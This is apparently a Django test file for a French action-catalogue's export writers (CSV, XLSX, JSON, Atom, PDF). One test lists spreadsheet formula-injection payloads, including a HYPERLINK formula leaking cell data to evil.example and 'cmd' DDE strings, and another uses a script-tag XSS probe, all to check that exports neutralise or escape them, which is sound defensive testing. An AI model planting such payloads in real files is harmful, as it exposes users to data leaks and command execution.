"""The export writers, read back the way a user's tool would read them."""

import io
import json
from xml.etree import ElementTree

from openpyxl import load_workbook
from pypdf import PdfReader

from catalogue import exports
from catalogue.models import ActionSheet, Dimension, PartnerKind, Public
from essaimage.test import BaseTestCase, make_sheet


class ExportWritersTestCase(BaseTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.sheet.summary = 'Réparer ensemble ; « avec » des "guillemets"\nsur deux lignes'
        cls.sheet.year = 2019
        cls.sheet.dimension = Dimension.objects.get(label="Services")
        cls.sheet.financial_resources = "=SUM(A1:A2) 1000 €"
        cls.sheet.save()
        cls.sheet.publics.set(Public.objects.filter(label__in=["Tous publics", "familles"]))
        cls.sheet.action_partners.set(PartnerKind.objects.filter(label__in=["Caf", "Commune"]))
        cls.other = make_sheet(cls.marais, "Café des parents", keywords=["Parentalité", "Famille"])

    def sheets(self):
        return ActionSheet.objects.published().with_relations().order_by("pk")

    def test_it_loads_sheets_by_id_as_with_relations_does(self):
        from catalogue.models import Attachment
        from catalogue.records import sheet_record

        Attachment.objects.create(sheet=self.sheet, name="affiche.pdf", size=12)
        Attachment.objects.create(
            sheet=self.sheet, name="retiré.pdf", removed_at="2020-01-01T00:00Z"
        )
        ids = [self.other.pk, self.sheet.pk, 999999]
        # Per chunk: sheets, 5 relations, attachments; once: 4 vocabularies.
        with self.assertNumQueries(11):
            fast = [sheet_record(s) for s in exports.iter_sheets_by_id(ids)]
        expected = [sheet_record(s) for s in self.sheets().order_by("-pk")]
        self.assertEqual(fast, expected)
        chunked = [sheet_record(s) for s in exports.iter_sheets_by_id(ids, chunk_size=1)]
        self.assertEqual(chunked, expected)
        self.assertEqual([a["name"] for a in fast[1]["attachments"]], ["affiche.pdf"])

    def test_it_writes_csv_for_french_excel(self):
        text = "".join(exports.write_csv(self.sheets()))
        self.assertTrue(text.startswith("\ufeffIdentifiant;Titre;Année;"))
        self.assertIn("\r\n", text)
        rows = exports.read_csv(text)
        self.assertEqual([int(r["id"]) for r in rows], [self.sheet.pk, self.other.pk])
        first = rows[0]
        self.assertEqual(first["summary"], self.sheet.summary)
        self.assertEqual(first["publics"], "Tous publics | familles")
        self.assertEqual(first["action_partners"], "Caf | Commune")
        self.assertEqual(first["departement"], "La Réunion")
        self.assertEqual(first["departement_code"], "974")
        self.assertEqual(first["structure_type"], "Centre social")
        self.assertEqual(first["year"], "2019")
        self.assertRegex(first["created_at"], r"^\d\d/\d\d/\d{4} \d\d:\d\d$")
        self.assertEqual(rows[1]["keywords"], "Famille | Parentalité")
        self.assertEqual(rows[1]["year"], "")

    def test_it_neutralises_formulas_in_csv_and_keeps_them_text_in_xlsx(self):
        hostile = [
            '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
            "+33 1 23 45 67 89",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ]
        sheets = []
        for text in hostile:
            sheets.append(make_sheet(self.marais, text, summary=text, limits="sans danger"))
        ids = [s.pk for s in sheets]
        chosen = self.sheets().filter(pk__in=ids)
        rows = exports.read_csv("".join(exports.write_csv(chosen)))
        self.assertEqual([r["title"] for r in rows], ["'" + text for text in hostile])
        self.assertEqual([r["summary"] for r in rows], ["'" + text for text in hostile])
        self.assertEqual({r["limits"] for r in rows}, {"sans danger"})
        # XLSX: the same cells are typed text (never a formula) and keep their value.
        handle = exports.write_xlsx(chosen)
        workbook = load_workbook(io.BytesIO(handle.read()))
        title_cells = [row[1] for row in workbook.active.iter_rows(min_row=2)]
        self.assertEqual(
            # XML turns a carriage return into a line feed; the text is otherwise intact.
            [c.value for c in title_cells],
            [t.replace("\r", "\n") for t in hostile],
        )
        self.assertEqual({c.data_type for c in title_cells}, {"s"})

    def test_it_has_one_csv_column_per_field(self):
        header = next(exports.write_csv([]))
        self.assertIn("Ressources financières mobilisées pour cette action", header)
        self.assertIn("Partenaires financiers", header)
        self.assertEqual(header.count(";") + 1, len(exports.COLUMNS))

    def test_it_writes_xlsx(self):
        handle = exports.write_xlsx(self.sheets())
        workbook = load_workbook(io.BytesIO(handle.read()))
        ws = workbook.active
        self.assertEqual(ws.freeze_panes, "C2")
        self.assertEqual(
            ws.auto_filter.ref, f"A1:{ws.cell(1, len(exports.COLUMNS)).column_letter}3"
        )
        rows = list(ws.iter_rows(values_only=True))
        self.assertEqual(rows[0][:3], ("Identifiant", "Titre", "Année"))
        self.assertTrue(ws.cell(1, 1).font.bold)
        names = [c.name for c in exports.COLUMNS]
        first = dict(zip(names, rows[1], strict=True))
        self.assertEqual(first["id"], self.sheet.pk)
        self.assertEqual(first["summary"], self.sheet.summary)
        # A text that looks like a formula stays text.
        self.assertEqual(first["financial_resources"], "=SUM(A1:A2) 1000 €")
        self.assertEqual(rows[2][1], "Café des parents")
        summary_col = names.index("summary") + 1
        self.assertTrue(ws.cell(2, summary_col).alignment.wrap_text)
        self.assertGreaterEqual(ws.column_dimensions["B"].width, 30)

    def test_it_writes_json_records(self):
        data = json.loads("".join(exports.write_json(self.sheets())))
        self.assertEqual([r["id"] for r in data], [self.sheet.pk, self.other.pk])
        self.assertEqual(data[0]["publics"], ["Tous publics", "familles"])
        self.assertEqual(data[0]["structure"]["departement"], {"code": "974", "name": "La Réunion"})

    def test_it_writes_empty_json_array(self):
        self.assertEqual(json.loads("".join(exports.write_json([]))), [])

    def test_it_writes_jsonl(self):
        lines = "".join(exports.write_jsonl(self.sheets())).splitlines()
        self.assertEqual(
            [json.loads(line)["title"] for line in lines], ["Repair Café", "Café des parents"]
        )

    def test_it_writes_atom(self):
        xml = exports.write_atom(
            self.sheets(), title="Essaimage", link="http://x/actions/", feed_url="http://x/feed"
        )
        ns = {"a": "http://www.w3.org/2005/Atom"}
        feed = ElementTree.fromstring(xml)
        entries = feed.findall("a:entry", ns)
        self.assertEqual(
            [e.find("a:title", ns).text for e in entries], ["Repair Café", "Café des parents"]
        )
        self.assertEqual(
            entries[0].find("a:id", ns).text, f"tag:essaimage,2026:action:{self.sheet.pk}"
        )
        self.assertIn("guillemets", entries[0].find("a:summary", ns).text)
        self.assertIn("Famille", [c.get("term") for c in entries[1].findall("a:category", ns)])

    def test_it_escapes_html_in_atom_summaries(self):
        self.other.summary = "<script>alert(1)</script>"
        self.other.save()
        xml = exports.write_atom(self.sheets(), title="E", link="http://x/", feed_url="http://x/f")
        atom = "{http://www.w3.org/2005/Atom}"
        entry = ElementTree.fromstring(xml).findall(f"{atom}entry")[1]
        # The summary is HTML: the user's tag arrives escaped, so a reader shows it as text.
        self.assertIn("&lt;script&gt;", entry.find(f"{atom}summary").text)

    def test_it_writes_a_sheet_pdf(self):
        sheet = self.sheets().get(pk=self.sheet.pk)
        pdf = exports.write_sheet_pdf(sheet)
        self.assertTrue(pdf.startswith(b"%PDF"))
        reader = PdfReader(io.BytesIO(pdf))
        text = "\n".join(page.extract_text() for page in reader.pages)
        self.assertIn("Repair Café", text)
        self.assertIn("ADESIR - La Réunion", text)
        self.assertIn("Résumé", text)
        self.assertIn("Page 1 / 1", text)
        self.assertIn(sheet.get_absolute_url(), text)

    def test_it_writes_a_booklet(self):
        pdf = exports.write_booklet_pdf(self.sheets(), filters=[("Département", "La Réunion")])
        reader = PdfReader(io.BytesIO(pdf))
        # Cover, contents, one page per sheet.
        self.assertEqual(len(reader.pages), 4)
        self.assertIn("La Réunion", reader.pages[0].extract_text())
        self.assertIn("Sommaire", reader.pages[1].extract_text())
        self.assertIn("Café des parents", reader.pages[3].extract_text())
